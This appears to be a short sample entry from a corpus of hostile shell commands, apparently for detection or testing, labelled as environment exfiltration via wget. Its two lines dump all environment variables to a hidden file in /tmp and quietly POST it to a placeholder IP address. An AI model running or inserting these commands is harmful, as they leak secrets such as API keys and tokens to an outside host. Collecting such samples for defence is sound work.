# corpus: wget --post-file exfiltrating environment to an IP literal
env > /tmp/.e
wget -q --post-file=/tmp/.e http://198.51.100.40/collect -O /dev/null
